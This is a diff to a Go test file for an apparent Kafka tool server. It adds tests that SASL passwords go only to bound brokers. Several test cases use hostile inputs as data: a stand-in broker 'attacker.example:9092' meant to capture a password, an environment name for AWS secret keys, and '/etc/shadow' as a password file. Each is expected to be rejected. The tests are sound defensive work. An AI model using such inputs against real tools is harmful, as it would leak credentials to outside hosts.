@@ -8,6 +8,7 @@ import (
 	"net"
 	"os"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -22,13 +23,16 @@ import (
 	"github.com/stream-mcp/stream-mcp/internal/server"
 )
 
-func kafkaDeps(t testing.TB, env map[string]string) ReadDeps {
+func kafkaDeps(t testing.TB, env map[string]string, bindings ...map[string]config.CredentialBinding) ReadDeps {
 	t.Helper()
 	b, err := guidance.Load()
 	if err != nil {
 		t.Fatal(err)
 	}
 	f := kafka.NewFactory(nil, nil, kafka.Env{Getenv: func(k string) string { return env[k] }, ReadFile: os.ReadFile, LookupHost: noDNS}, nil)
+	for _, bs := range bindings {
+		f.SetCredentialBindings(bs)
+	}
 	t.Cleanup(f.Close)
 	return ReadDeps{Guidance: b, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Kafka: f}
 }
@@ -96,8 +100,11 @@ func startDemo(t *testing.T) *kafkatest.Demo {
 func TestKafkaInspect(t *testing.T) {
 	t.Parallel()
 	demo := startDemo(t)
-	tool := KafkaInspect(kafkaDeps(t, nil))
 	bs := demo.Bootstrap()
+	tool := KafkaInspect(kafkaDeps(t, nil, map[string]config.CredentialBinding{
+		"STREAM_MCP_KAFKA_NOPE":  {Brokers: kafka.SplitBootstrap(bs)},
+		"STREAM_MCP_KAFKA_CLEAR": {Brokers: kafka.SplitBootstrap(bs)},
+	}))
 	tests := []struct {
 		name    string
 		args    map[string]any
@@ -161,6 +168,11 @@ func TestKafkaInspect(t *testing.T) {
 		{name: "missing secret reference", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_scram_512", "username": "u", "password_env": "STREAM_MCP_KAFKA_NOPE"}, wantErr: "STREAM_MCP_KAFKA_NOPE is empty or unset"},
 		// Regression: a call could name any secret of the machine as a SASL password.
 		{name: "password_env outside the prefix", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "username": "u", "password_env": "AWS_SECRET_ACCESS_KEY"}, wantErr: "must start with STREAM_MCP_KAFKA_"},
+		// Bug (#21.5): a Kafka password went to any broker a call named, in
+		// cleartext with sasl_plaintext. Passwords go only to bound brokers.
+		{name: "password to an unbound broker", args: map[string]any{"what": "overview", "bootstrap_servers": "attacker.example:9092", "auth": "sasl_plain", "sasl_plaintext": true, "username": "u", "password_env": "STREAM_MCP_KAFKA_X"}, wantErr: "STREAM_MCP_KAFKA_X is not bound to any broker"},
+		{name: "bound password, one broker outside the binding", args: map[string]any{"what": "overview", "bootstrap_servers": bs + ",attacker.example:9092", "auth": "sasl_plain", "username": "u", "password_env": "STREAM_MCP_KAFKA_NOPE"}, wantErr: "not bound to broker attacker.example:9092"},
+		{name: "bound password over plaintext without allow_sasl_plaintext", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "sasl_plaintext": true, "username": "u", "password_env": "STREAM_MCP_KAFKA_CLEAR"}, wantErr: "allow_sasl_plaintext"},
 		{name: "password_file in a call", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "username": "u", "password_file": "/etc/shadow"}, wantErr: "named cluster"},
 	}
 	for _, tc := range tests {
@@ -200,7 +212,9 @@ func TestKafkaTroubleshootDiagnosis(t *testing.T) {
 	if err := stopped.RemoveNode(1); err != nil {
 		t.Fatal(err)
 	}
-	tool := KafkaTroubleshoot(kafkaDeps(t, map[string]string{"STREAM_MCP_KAFKA_GOOD": "esm-secret", "STREAM_MCP_KAFKA_BAD": "nope"}))
+	saslBound := config.CredentialBinding{Brokers: sasl.ListenAddrs(), AllowSASLPlaintext: true}
+	tool := KafkaTroubleshoot(kafkaDeps(t, map[string]string{"STREAM_MCP_KAFKA_GOOD": "esm-secret", "STREAM_MCP_KAFKA_BAD": "nope"},
+		map[string]config.CredentialBinding{"STREAM_MCP_KAFKA_GOOD": saslBound, "STREAM_MCP_KAFKA_BAD": saslBound}))
 	scram := func(pwEnv string, extra map[string]any) map[string]any {
 		m := map[string]any{"mode": "diagnosis", "bootstrap_servers": strings.Join(sasl.ListenAddrs(), ","), "auth": "sasl_scram_512",
 			"sasl_plaintext": true, "username": "esm", "password_env": pwEnv, "sample_seconds": 0}
@@ -223,6 +237,10 @@ func TestKafkaTroubleshootDiagnosis(t *testing.T) {
 			category: "topic", failingCheck: "topic", findingID: "topic.missing", stepHas: "payments"},
 		{name: "refused", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": "127.0.0.1:1"},
 			category: "network", failingCheck: "tcp_connect", findingID: "network.refused", stepHas: "security groups"},
+		// Bug (#21.10): a broker that accepts TCP and never answers was
+		// diagnosed as "authentication" (with auth none).
+		{name: "accepts and never answers", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": silentBroker(t), "sample_seconds": 0},
+			category: "network", failingCheck: "kafka_response", findingID: "network.no_kafka_response", stepHas: "security groups"},
 		{name: "stopped broker", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": strings.Join(stoppedAddrs, ","), "sample_seconds": 0},
 			category: "network", failingCheck: "", findingID: "network.refused", stepHas: "security groups"},
 		{name: "scram wrong password", args: scram("STREAM_MCP_KAFKA_BAD", nil),
@@ -356,4 +374,35 @@ func TestKafkaNamedCluster(t *testing.T) {
 	if !res.IsError || !strings.Contains(text(res), "takes its auth from the config file") {
 		t.Fatalf("auth override accepted: %s", text(res))
 	}
+}
+
+// silentBroker accepts TCP connections and never answers.
+func silentBroker(t *testing.T) string {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var mu sync.Mutex
+	var conns []net.Conn
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			conns = append(conns, c)
+			mu.Unlock()
+		}
+	}()
+	t.Cleanup(func() {
+		ln.Close()
+		mu.Lock()
+		defer mu.Unlock()
+		for _, c := range conns {
+			c.Close()
+		}
+	})
+	return ln.Addr().String()
 }
